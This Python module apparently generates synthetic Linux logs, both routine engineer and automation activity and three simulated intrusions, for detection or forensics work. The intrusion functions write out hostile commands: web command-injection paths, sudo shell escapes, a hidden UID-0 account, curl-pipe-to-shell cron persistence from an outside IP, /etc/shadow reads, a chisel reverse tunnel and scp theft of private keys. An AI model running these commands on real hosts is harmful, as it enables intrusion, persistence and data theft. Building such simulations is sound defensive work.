"""Ordinary life and attack scripts of the second set on Linux hosts."""

# ruff: noqa: E501 (command lines and records are kept whole)

from __future__ import annotations

from datetime import datetime

from ..worlds.base import Host, Person
from ..worlds.cloud import BROWSERS, Cloud
from .base import FreshLinux, FreshWorld

JOBS = (
    "/usr/local/bin/rotate-exports.sh",
    "/usr/bin/certbot -q renew",
    "/opt/bin/pgdump.sh nightly",
    "test -x /usr/sbin/anacron",
    "/usr/bin/find /var/tmp -mtime +7 -delete",
)
WORK = (
    ["tail", "-n", "100", "/var/log/syslog"],
    ["df", "-h"],
    ["git", "pull", "--rebase"],
    ["vim", "config.yml"],
    ["docker", "ps"],
    ["kubectl", "get", "pods"],
    ["du", "-sh", "/srv"],
    ["less", "README"],
    ["curl", "-sI", "http://localhost:8080/health"],
)
ROOTWORK = (
    "/usr/bin/systemctl restart app",
    "/usr/bin/apt-get update",
    "/usr/bin/journalctl -u nginx",
    "/usr/bin/tail -f /var/log/auth.log",
    "/usr/bin/crontab -l",
    "/usr/sbin/iptables -L -n",
    "/usr/bin/docker logs web",
)


class Racks:
    """Linux hosts behind a bastion, with engineers and automation."""

    def __init__(self, w: FreshWorld) -> None:
        """Set up the hosts and the accounts."""
        self.w, rng = w, w.rng
        self.lx = FreshLinux(w, audit=rng.random() < 0.75)
        self.bastion = w.host("linux")
        self.web = w.host("linux")
        self.hosts = [w.host("linux") for _ in range(rng.randint(3, 9))]
        self.people = [w.person("user") for _ in range(rng.choice([5, 9, 14, 25]))]
        self.engineers = self.people[: rng.randint(2, 4)]
        self.ansible = w.person("service", label=rng.choice(["ansible", "puppet", "salt"]))
        self.deploy = w.person("service", label=rng.choice(["deploy", "gitlab", "jenkins"]))
        self.control = w.ip()
        self.ci = [w.ip() for _ in range(2)]
        self.homes = {p.name: w.outside_ip() for p in self.people}
        w.neutral("root", "www-data")
        self.www = Person("www-data", "", "33", "system", uid=33)

    def day(self) -> None:
        """Write everybody's day."""
        w, lx, rng = self.w, self.lx, self.w.rng
        for p in self.people:
            if not p.quiet:
                for _ in range(rng.randint(1, 4)):
                    self.visit(p, w.moment(0.02, 0.97))
        if not self.ansible.quiet:
            for _ in range(rng.randint(1, 3)):
                at = w.moment()
                for host in [self.web, *self.hosts]:
                    at = w.later(at, 1, 8)
                    ses = lx.ssh_in(at, self.ansible, host, self.control)
                    lx.sudo(
                        w.later(at, 0.5, 1),
                        self.ansible,
                        host,
                        f"/bin/sh -c echo BECOME-SUCCESS-{rng.randrange(10**9)} ; /usr/bin/python3 /tmp/.ansible/AnsiballZ_{rng.choice(['apt', 'user', 'cron', 'authorized_key'])}.py",
                        ses,
                    )
                    lx.ssh_out(w.later(at, 3, 9), self.ansible, host, self.control)
            w.bystander(self.ansible, "configures every host as root")
        if not self.deploy.quiet:
            for _ in range(rng.randint(3, 8)):
                at, ip, host = w.moment(), rng.choice(self.ci), rng.choice([self.web, *self.hosts])
                ses = lx.ssh_in(at, self.deploy, host, ip)
                lx.run(
                    w.later(at, 0.5, 1),
                    host,
                    ["rsync", "--server", "-logDtprze.iLsfxC", ".", "/srv/app/"],
                    self.deploy,
                    ses,
                )
                lx.sudo(w.later(at, 2, 4), self.deploy, host, "/usr/bin/systemctl restart app", ses)
                lx.ssh_out(w.later(at, 5, 9), self.deploy, host, ip)
        for host in [self.bastion, self.web, *self.hosts]:
            for _ in range(rng.randint(2, 6)):
                lx.cron(w.moment(), lx.root, host, rng.choice(JOBS))
        knockers = [w.outside_ip() for _ in range(rng.randint(1, 6))]
        for _ in range(rng.randint(10, 120)):
            lx.ssh_fail(
                w.moment(),
                rng.choice(["ubnt", "postgres", "hadoop", "minecraft", "odoo", "steam"]),
                self.bastion,
                rng.choice(knockers),
                valid=False,
            )
        if rng.random() < 0.5:
            self.joiner(w.moment(0.1, 0.9))

    def visit(self, p: Person, at: datetime, host: Host | None = None) -> None:
        """Write a session over the bastion to a host, with some work on it."""
        w, lx, rng = self.w, self.lx, self.w.rng
        ip = self.homes[p.name]
        if rng.random() < 0.15:
            lx.ssh_fail(w.later(at, -30, -6), p, self.bastion, ip)
        ses = lx.ssh_in(at, p, self.bastion, ip, method=rng.choice(["publickey", "publickey", "password"]))
        host = host or rng.choice([self.web, *self.hosts])
        lx.run(w.later(at, 3, 6), self.bastion, ["ssh", host.name], p, ses)
        ses = lx.ssh_in(w.later(at, 7, 10), p, host, self.bastion.ip)
        for argv in rng.sample(WORK, rng.randint(2, 4)):
            at = w.later(at, 10, 120)
            lx.run(w.later(at, 10, 12), host, list(argv), p, ses)
        if p in self.engineers and rng.random() < 0.7:
            for cmd in rng.sample(ROOTWORK, 2):
                at = w.later(at, 20, 200)
                lx.sudo(w.later(at, 10, 12), p, host, cmd, ses)
        elif rng.random() < 0.05:
            lx.sudo_refused(w.later(at, 5, 9), p, host, "/usr/bin/systemctl restart app")
        lx.ssh_out(w.later(at, 60, 600), p, host, self.bastion.ip)

    def joiner(self, at: datetime) -> None:
        """Write a new colleague's account, made by an engineer."""
        w, lx = self.w, self.lx
        by = [p for p in self.engineers if not p.quiet]
        if not by:
            return
        new, host = w.person("user"), w.rng.choice(self.hosts)
        ses = lx.ssh_in(at, by[0], host, self.bastion.ip)
        lx.sudo(w.later(at, 9, 20), by[0], host, f"/usr/sbin/useradd -m -s /bin/bash {new.name}", ses)
        lx.line(
            w.later(at, 21, 22),
            host,
            "useradd",
            lx.pid(),
            f"new user: name={new.name}, UID={new.uid}, GID={new.uid}, home=/home/{new.name}, shell=/bin/bash, from=/dev/pts/1",
            new,
        )
        w.bystander(new, "a new colleague")

    def nearby(self, around: datetime, hosts: list[Host], but: set[str]) -> None:
        """Write innocent engineers at work on the attacked hosts at the same time."""
        for p in self.engineers:
            if not p.quiet and p.name not in but:
                self.visit(p, max(self.w.start, self.w.later(around, -600, 600)), self.w.rng.choice(hosts))
                self.w.bystander(p, "an engineer at work on the same hosts")


def web_rce(w: FreshWorld) -> None:
    """A web application runs a stranger's commands; sudo lets them be root; a second root is made and used over ssh."""
    rng = w.rng
    r = Racks(w)
    r.day()
    lx, c, host = r.lx, Cloud(w), r.web
    for _ in range(rng.randint(60, 300)):
        c.web(
            w.moment(),
            host,
            w.outside_ip() if rng.random() < 0.1 else "203.0.113.77",
            f"GET /{rng.choice(['', 'news', 'shop/cart', 'static/site.css', 'feed.xml'])} HTTP/1.1",
            200,
            rng.randrange(300, 9000),
            rng.choice(BROWSERS),
        )
    ip = w.outside_ip()
    made = Person(rng.choice(["sysd", "ftpadm", "mysqlb", "toor", "nscd2"]), "", "0", "user", uid=0)
    with w.hostile():
        at = w.moment(0.2, 0.7)
        path = rng.choice(
            [
                "/cgi-bin/ping.cgi?ip=127.0.0.1%3Bid",
                "/index.php?page=php://input&cmd=id",
                "/uploads/img.php?c=uname%20-a",
                "/struts/%24%7B%28%23a%3D@java.lang.Runtime%29%7D/x.action",
            ]
        )
        for _ in range(rng.randint(2, 8)):
            at = w.later(at, 1, 30)
            c.web(
                at,
                host,
                ip,
                f"{rng.choice(['GET', 'POST'])} {path} HTTP/1.1",
                200,
                rng.randrange(60, 900),
                rng.choice(["curl/8.1.2", "python-httpx/0.25", BROWSERS[2]]),
            )
        shell = lx.run(
            at,
            host,
            ["/bin/sh", "-c", "id; uname -a"],
            None,
            0,
            uid=33,
            euser="www-data",
            tty="(none)",
            cwd="/var/www/html",
            comm="sh",
        )
        for argv in (["id"], ["cat", "/etc/passwd"], ["sudo", "-l"], ["find", "/", "-perm", "-4000", "-type", "f"]):
            at = w.later(at, 1, 20)
            lx.run(
                at,
                host,
                argv,
                None,
                0,
                uid=33,
                euser="www-data",
                tty="(none)",
                cwd="/var/www/html",
                parent=shell or None,
            )
        gate = rng.choice(
            [
                "/usr/bin/find /var/www -exec /bin/bash ;",
                "/usr/bin/vim -c :!/bin/bash",
                "/usr/bin/tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh",
                "/usr/bin/perl -e exec'/bin/sh'",
            ]
        )
        at = w.later(at, 5, 90)
        lx.line(at, host, "sudo", lx.pid(), f"www-data : PWD=/var/www/html ; USER=root ; COMMAND={gate}", pri=85)
        for argv in (
            gate.split(),
            ["/bin/bash"],
            ["useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", made.name],
        ):
            at = w.later(at, 0.5, 30)
            lx.run(at, host, argv, None, 0, uid=0, euser="root", tty="(none)", cwd="/var/www/html")
        lx.line(
            w.later(at, 0.1, 0.3),
            host,
            "useradd",
            lx.pid(),
            f"new user: name={made.name}, UID=0, GID=0, home=/root, shell=/bin/bash, from=none",
            made,
        )
        at = w.later(at, 5, 20)
        lx.run(
            at,
            host,
            [
                "/bin/sh",
                "-c",
                f"echo {made.name}:Chang3 | chpasswd; mkdir -p /root/.ssh; echo ssh-ed25519 AAAAC3Nz >> /root/.ssh/authorized_keys",
            ],
            None,
            0,
            uid=0,
            euser="root",
            tty="(none)",
        )
        lx.line(
            w.later(at, 0.5, 1),
            host,
            "chpasswd",
            lx.pid(),
            f"pam_unix(chpasswd:chauthtok): password changed for {made.name}",
            made,
        )
        for _ in range(rng.randint(1, 3)):
            at = w.later(at, 60, 900)
            lx.ssh_in(at, made, host, ip, method=rng.choice(["password", "publickey"]))
    w.create(made.name)
    r.nearby(at, [host], set())
    w.lose("no_audit", chance=0.25)


def bastion_key(w: FreshWorld) -> None:
    """An engineer's key, stolen: over the bastion from elsewhere, on to several hosts, a cron job left on each."""
    rng = w.rng
    r = Racks(w)
    thief = rng.choice(r.people)
    thief.quiet = rng.random() < 0.35
    r.day()
    lx, ip = r.lx, w.outside_ip()
    rooted = rng.random() < 0.7
    hosts = rng.sample(r.hosts, rng.randint(2, min(5, len(r.hosts))))
    with w.hostile():
        at = w.moment(0.2, 0.85)
        ses = lx.ssh_in(at, thief, r.bastion, ip)
        for argv in (
            ["w"],
            ["cat", f"/home/{thief.name}/.ssh/known_hosts"],
            ["cat", f"/home/{thief.name}/.bash_history"],
            ["ls", "-la", "/home"],
        ):
            at = w.later(at, 3, 40)
            lx.run(at, r.bastion, argv, thief, ses)
        url = f"http://{w.outside_ip()}/{rng.choice(['x', 'kd', 'init.sh'])}"
        for host in hosts:
            at = w.later(at, 10, 90)
            lx.run(at, r.bastion, ["ssh", "-o", "StrictHostKeyChecking=no", host.name, "id"], thief, ses)
            there = lx.ssh_in(w.later(at, 1, 2), thief, host, r.bastion.ip)
            lx.run(w.later(at, 3, 5), host, ["/bin/sh", "-c", f"curl -fsSL {url} | bash"], thief, there)
            job = f"*/7 * * * * curl -fsSL {url} | sh"
            if rooted:
                lx.sudo(
                    w.later(at, 6, 9),
                    thief,
                    host,
                    f"/usr/bin/tee /etc/cron.d/{rng.choice(['sysupdate', '0anacron', 'zz-php'])}",
                    there,
                )
                lx.sudo(w.later(at, 10, 12), thief, host, "/usr/bin/cat /etc/shadow", there)
                lx.cron(w.later(at, 60, 420), lx.root, host, f"curl -fsSL {url} | sh")
            else:
                lx.run(
                    w.later(at, 6, 9), host, ["/bin/sh", "-c", f"(crontab -l; echo '{job}') | crontab -"], thief, there
                )
                lx.line(
                    w.later(at, 9, 10),
                    host,
                    "crontab",
                    lx.pid(),
                    f"({thief.name}) REPLACE ({thief.name})",
                    thief,
                    pri=78,
                )
                lx.cron(w.later(at, 60, 420), thief, host, f"curl -fsSL {url} | sh")
            lx.ssh_out(w.later(at, 30, 50), thief, host, r.bastion.ip)
    w.take_over(thief)
    r.nearby(at, hosts, {thief.name})
    w.lose("no_audit", "no_auth", chance=0.3)


def deploy_key(w: FreshWorld) -> None:
    """The deployment account's key used from elsewhere: a root shell, a tunnel, a user of one's own."""
    rng = w.rng
    r = Racks(w)
    who = r.deploy
    who.quiet = rng.random() < 0.4
    r.day()
    lx, ip, host = r.lx, w.outside_ip(), rng.choice([r.web, *r.hosts])
    made = Person(
        rng.choice(["support1", "git2", "pgadmin", "zabbix_agent", "backupusr"]),
        "",
        "0",
        "user",
        uid=rng.randint(1400, 1999),
    )
    second = rng.random() < 0.5
    with w.hostile():
        at = w.moment(0.3, 0.8)
        ses = lx.ssh_in(at, who, host, ip)
        for argv in (["id"], ["sudo", "-l"], ["cat", "/etc/crontab"], ["ss", "-tlnp"]):
            at = w.later(at, 2, 30)
            lx.run(at, host, argv, who, ses)
        at = w.later(at, 5, 40)
        lx.sudo(at, who, host, "/bin/bash", ses, cwd="/srv/app")
        for argv in (
            ["cat", "/etc/shadow"],
            ["/tmp/.x/chisel", "client", f"{ip}:8443", "R:socks"],
            ["useradd", "-m", "-G", "sudo", "-s", "/bin/bash", made.name],
        ):
            at = w.later(at, 3, 60)
            lx.run(at, host, argv, who, ses, uid=0)
        lx.line(
            w.later(at, 0.1, 0.2),
            host,
            "useradd",
            lx.pid(),
            f"new user: name={made.name}, UID={made.uid}, GID={made.uid}, home=/home/{made.name}, shell=/bin/bash, from=/dev/pts/0",
            made,
        )
        lx.line(w.later(at, 0.3, 0.4), host, "useradd", lx.pid(), f"add '{made.name}' to group 'sudo'", made)
        lx.line(
            w.later(at, 8, 20),
            host,
            "passwd",
            lx.pid(),
            f"pam_unix(passwd:chauthtok): password changed for {made.name}",
            made,
        )
        if second:
            at = w.later(at, 120, 1200)
            ses = lx.ssh_in(at, made, host, ip, method="password")
            lx.sudo(w.later(at, 9, 30), made, host, "/usr/bin/tar czf /tmp/.d.tgz /srv/app /etc/ssl/private", ses)
            lx.run(w.later(at, 60, 90), host, ["scp", "/tmp/.d.tgz", f"u@{ip}:in/"], made, ses)
    w.take_over(who)
    w.create(made.name)
    r.nearby(at, [host], {who.name})
    w.lose("no_audit", chance=0.25)


FAMILIES = {f.__name__: f for f in (web_rce, bastion_key, deploy_key)}
